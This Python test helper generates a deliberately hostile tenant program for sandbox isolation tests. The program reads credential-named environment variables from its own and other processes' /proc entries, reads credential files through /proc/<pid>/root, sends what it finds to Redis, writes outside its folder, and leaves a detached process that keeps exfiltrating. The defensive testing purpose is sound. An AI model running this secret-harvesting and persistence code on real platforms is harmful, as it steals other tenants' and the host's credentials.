"""A hostile reference program for the isolation tests: at import it tries what a tenant's code could try
against the platform that runs it, then behaves as an ordinary reference.

What it tries, in order:
- reads secrets: variables named like credentials in its own environment and in every process's
  `/proc/<pid>/environ` it can see, and the files it is told of (the S3 server's credentials);
- sends what it read to the platform's Redis (SET `key`) and writes it to `marker`, a file outside its
  folder, directly and through every other process's `/proc/<pid>/root` (the host's file system, where
  it shares the host's PID namespace);
- leaves a process behind in a session of its own (its command line carries `token`), which keeps
  trying Redis (`key:lingered`) and the file (`marker.lingered`) for two minutes;
- raises with what it read, so a secret it reached surfaces in the job's error message.

Unsandboxed (the tests' control) every step succeeds; isolated, none may.
"""

from __future__ import annotations

import os
import signal
import subprocess
from collections.abc import Sequence
from pathlib import Path

MODEL = """
import torch
import torch.nn as nn


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x) * 2.0


def get_inputs():
    return [torch.randn(64, 128)]


def get_init_inputs():
    return []
"""

PROBES = r"""
import os
import re
import socket
import sys
import time

SECRET_NAME = re.compile(r"STITCH_|SECRET|KEY|TOKEN|PASSW|REDIS|S3_|AWS_", re.IGNORECASE)


def other_pids():
    return [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def send_to_redis(key, value):
    data = value.encode()
    command = b"*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$%d\r\n%s\r\n" % (len(key), key.encode(), len(data), data)
    try:
        with socket.create_connection(("127.0.0.1", 6379), timeout=2) as s:
            s.sendall(command)
            s.recv(16)
    except OSError:
        pass


def write_outside(path, value):
    for target in [path] + [f"/proc/{pid}/root{path}" for pid in other_pids()]:
        try:
            with open(target, "w") as f:
                f.write(value)
            return
        except OSError:
            pass


def read_secrets():
    found = [f"{k}={v}" for k, v in os.environ.items() if SECRET_NAME.search(k)]
    for pid in ["self", *other_pids()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                variables = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found += [v for v in variables if SECRET_NAME.search(v.partition("=")[0])]
    for path in CONFIG["files"]:
        for target in [path] + [f"/proc/{pid}/root{path}" for pid in other_pids()]:
            try:
                with open(target) as f:
                    found.append(f.read())
                break
            except OSError:
                pass
    # The credentials first: the error message that carries them may be cut short.
    return sorted(set(found), key=lambda v: (not re.search("secret|key|token|passw", v, re.I), v))
"""

LINGER = r"""
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    send_to_redis(CONFIG["key"] + ":lingered", "\n".join(read_secrets()) or "owned")
    write_outside(CONFIG["marker"] + ".lingered", "owned")
    time.sleep(1)
"""

MAIN = r"""
def leave_a_process_behind():
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", LINGER_SOURCE, CONFIG["token"]])
        except OSError:
            pass
        os._exit(0)
    os.waitpid(pid, 0)


stolen = read_secrets()
send_to_redis(CONFIG["key"], "\n".join(stolen) or "owned")
write_outside(CONFIG["marker"], "\n".join(stolen) or "owned")
leave_a_process_behind()
if stolen:
    raise RuntimeError("the reference read the service's secrets: " + " | ".join(stolen)[:3000])
"""


def hostile(key: str, marker: Path, token: str, files: Sequence[Path] = ()) -> str:
    """The hostile reference's source (see the module's docstring); `token` names its lingering process."""
    settings = {"key": key, "marker": str(marker), "token": token, "files": [str(f) for f in files]}
    config = f"CONFIG = {settings!r}\n"
    linger = config + PROBES + LINGER
    return config + PROBES + f"LINGER_SOURCE = {linger!r}\n" + MAIN + MODEL


def lingering(token: str) -> list[int]:
    """Pids of the processes the hostile reference left behind (their command line carries `token`)."""
    out = subprocess.run(["pgrep", "-f", token], capture_output=True, text=True, check=False)
    return [int(p) for p in out.stdout.split()]


def end_lingering(token: str) -> None:
    """Ends what a run left behind (the unsandboxed control's child, or one that escaped a sandbox)."""
    for pid in lingering(token):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
